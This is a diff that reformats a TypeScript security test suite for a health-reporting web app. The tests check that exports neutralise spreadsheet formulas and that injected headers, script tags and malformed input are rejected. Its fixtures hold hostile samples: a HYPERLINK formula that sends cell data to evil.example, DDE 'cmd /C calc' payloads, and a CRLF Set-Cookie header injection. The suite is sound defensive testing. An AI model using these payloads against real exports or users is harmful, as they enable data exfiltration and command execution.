@@ -15,14 +15,20 @@ import { sessionHeaders } from '../helpers/http-session.js';
  */
 const packs = new URL('../../packs/', import.meta.url).pathname;
 const PW = 'Input-attack-pass-3';
-const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+9)*cmd|" /C calc"!A0'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+  '+cmd|" /C calc"!A0',
+  '-2+3+cmd|" /C calc"!A0',
+  '@SUM(1+9)*cmd|" /C calc"!A0',
+];
 
 /** Every cell of a CSV answer, parsed as a spreadsheet would read it. */
 function csvCells(text: string): string[] {
   const rows: string[][] = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true });
   return rows.flat();
 }
-const live = (cells: readonly string[]): string[] => cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c));
+const live = (cells: readonly string[]): string[] =>
+  cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c));
 
 for (const dialect of await testDialects()) {
   describe(`${dialect}: hostile input`, () => {
@@ -35,8 +41,13 @@ for (const dialect of await testDialects()) {
       tdb = await createTestDatabase(dialect);
       store = await openStore(tdb.url, { create: true });
       await migrateStore(store);
-      await importMetadataFile(store, join(packs, 'example-district/dhis2-metadata.json'), { locale: 'zh-CN' });
-      await importDataFile(store, join(packs, 'example-district/reports-2024-03.csv'), { actor: 'seed', locale: 'zh-CN' });
+      await importMetadataFile(store, join(packs, 'example-district/dhis2-metadata.json'), {
+        locale: 'zh-CN',
+      });
+      await importDataFile(store, join(packs, 'example-district/reports-2024-03.csv'), {
+        actor: 'seed',
+        locale: 'zh-CN',
+      });
       await saveUserAccount(store, { username: 'admin', password: PW, role: 'admin' }, 'test');
       app = createApp(store, { today: () => '2024-04-10' });
       h = await sessionHeaders(app, 'admin', PW);
@@ -48,10 +59,24 @@ for (const dialect of await testDialects()) {
 
     it('writes formulas typed into comments and names as inert text in every CSV export, and reads them back unchanged', async () => {
       for (const [i, f] of FORMULAS.entries()) {
-        const r = await app.request('/api/dataValues', { method: 'POST', headers: h, body: JSON.stringify({ dataElement: 'BEDS', orgUnit: 'JJ-BS-HC', period: `20240${i + 1}`, value: '60', comment: f }) });
+        const r = await app.request('/api/dataValues', {
+          method: 'POST',
+          headers: h,
+          body: JSON.stringify({
+            dataElement: 'BEDS',
+            orgUnit: 'JJ-BS-HC',
+            period: `20240${i + 1}`,
+            value: '60',
+            comment: f,
+          }),
+        });
         expect(r.status, await r.clone().text()).toBe(200);
       }
-      const renamed = await app.request('/api/metadata/orgUnits/JJ-BS-VC1', { method: 'PUT', headers: h, body: JSON.stringify({ name: FORMULAS[0], parent: 'JJ-BS' }) });
+      const renamed = await app.request('/api/metadata/orgUnits/JJ-BS-VC1', {
+        method: 'PUT',
+        headers: h,
+        body: JSON.stringify({ name: FORMULAS[0], parent: 'JJ-BS' }),
+      });
       expect(renamed.status, await renamed.clone().text()).toBe(200);
       const exports = [
         '/api/dataValueSets?dataElement=BEDS&orgUnit=JJ-BS-HC&period=2024&format=csv',
@@ -67,31 +92,66 @@ for (const dialect of await testDialects()) {
       const dvs = csvCells(await (await app.request(exports[0] ?? '', { headers: h })).text());
       expect(dvs).toContain(`'${FORMULAS[0] ?? ''}`);
       // The XLSX export stores text cells, never formulas.
-      const xlsx = await app.request('/api/analytics?dimension=dx:OPD_VISITS&dimension=pe:202403&dimension=ou:JJ-BS;CHILDREN&format=xlsx', { headers: h });
+      const xlsx = await app.request(
+        '/api/analytics?dimension=dx:OPD_VISITS&dimension=pe:202403&dimension=ou:JJ-BS;CHILDREN&format=xlsx',
+        { headers: h },
+      );
       const wb = new ExcelJS.Workbook();
       await wb.xlsx.load(await xlsx.arrayBuffer());
       wb.worksheets[0]?.eachRow((row) => {
         row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
       });
       // A native CSV export imported again gives back exactly the comments typed.
-      const native = await app.request('/api/dataValueSets?dataElement=BEDS&orgUnit=JJ-BS-HC&period=2024&format=csv', { headers: h });
-      const again = await app.request('/api/dataValueSets?dryRun=true', { method: 'POST', headers: { ...h, 'content-type': 'text/csv' }, body: await native.text() });
+      const native = await app.request(
+        '/api/dataValueSets?dataElement=BEDS&orgUnit=JJ-BS-HC&period=2024&format=csv',
+        { headers: h },
+      );
+      const again = await app.request('/api/dataValueSets?dryRun=true', {
+        method: 'POST',
+        headers: { ...h, 'content-type': 'text/csv' },
+        body: await native.text(),
+      });
       const summary = (await again.json()) as { imported: number; updated: number; ignored: number };
       expect(summary).toMatchObject({ imported: 0, updated: 0 });
     });
 
     it('refuses codes that would break a download header, and keeps names on one line', async () => {
       for (const code of ['MONTH"LY', 'MONTH\r\nSet-Cookie: a=1', 'A<script>', 'A\\B']) {
-        const r = await app.request('/api/metadata?dryRun=true', { method: 'POST', headers: h, body: JSON.stringify({ dataSets: [{ code, name: '月报', periodType: 'Monthly', dataElements: ['BEDS'] }] }) });
+        const r = await app.request('/api/metadata?dryRun=true', {
+          method: 'POST',
+          headers: h,
+          body: JSON.stringify({
+            dataSets: [{ code, name: '月报', periodType: 'Monthly', dataElements: ['BEDS'] }],
+          }),
+        });
         expect(r.status, JSON.stringify(code)).toBe(400);
         expect(JSON.stringify(await r.json())).toContain('编码');
       }
-      const newline = await app.request('/api/metadata?dryRun=true', { method: 'POST', headers: h, body: JSON.stringify({ dataSets: [{ code: 'OK_CODE', name: '月报\r\n第二行', periodType: 'Monthly', dataElements: ['BEDS'] }] }) });
+      const newline = await app.request('/api/metadata?dryRun=true', {
+        method: 'POST',
+        headers: h,
+        body: JSON.stringify({
+          dataSets: [
+            { code: 'OK_CODE', name: '月报\r\n第二行', periodType: 'Monthly', dataElements: ['BEDS'] },
+          ],
+        }),
+      });
       expect(newline.status).toBe(400);
       const t = await app.request('/api/dataEntry/template?ds=MONTHLY&format=csv', { headers: h });
-      expect(t.headers.get('content-disposition')).toMatch(/^attachment; filename="template-MONTHLY\.csv"; filename\*=UTF-8''template-MONTHLY\.csv$/);
-      expect((await app.request('/api/dataEntry/template?ds=MONTHLY&format=csv&pe=%3D1%2B1', { headers: h })).status).toBe(400);
-      expect((await app.request('/api/dataEntry/template?ds=MONTHLY&format=csv&ou=%3DHYPERLINK(1)', { headers: h })).status).toBe(404);
+      expect(t.headers.get('content-disposition')).toMatch(
+        /^attachment; filename="template-MONTHLY\.csv"; filename\*=UTF-8''template-MONTHLY\.csv$/,
+      );
+      expect(
+        (await app.request('/api/dataEntry/template?ds=MONTHLY&format=csv&pe=%3D1%2B1', { headers: h }))
+          .status,
+      ).toBe(400);
+      expect(
+        (
+          await app.request('/api/dataEntry/template?ds=MONTHLY&format=csv&ou=%3DHYPERLINK(1)', {
+            headers: h,
+          })
+        ).status,
+      ).toBe(404);
     });
 
     it('answers prototype keys, invalid UTF-8 and junk dimensions with a 4xx, never a 500', async () => {
@@ -106,10 +166,18 @@ for (const dialect of await testDialects()) {
         expect(r.status, q).toBeGreaterThanOrEqual(400);
         expect(r.status, q).toBeLessThan(500);
       }
-      const bad = await app.request('/api/dataValues', { method: 'POST', headers: h, body: new Uint8Array([0x7b, 0x22, 0x63, 0x6f, 0x6d, 0x6d, 0x65, 0x6e, 0x74, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]) });
+      const bad = await app.request('/api/dataValues', {
+        method: 'POST',
+        headers: h,
+        body: new Uint8Array([
+          0x7b, 0x22, 0x63, 0x6f, 0x6d, 0x6d, 0x65, 0x6e, 0x74, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d,
+        ]),
+      });
       expect(bad.status).toBe(400);
       expect(((await bad.json()) as { error: { message: string } }).error.message).toContain('UTF-8');
-      expect((await app.request('/api/plans/__proto__/evaluation?year=2023', { headers: h })).status).toBe(404);
+      expect((await app.request('/api/plans/__proto__/evaluation?year=2023', { headers: h })).status).toBe(
+        404,
+      );
     });
   });
 }
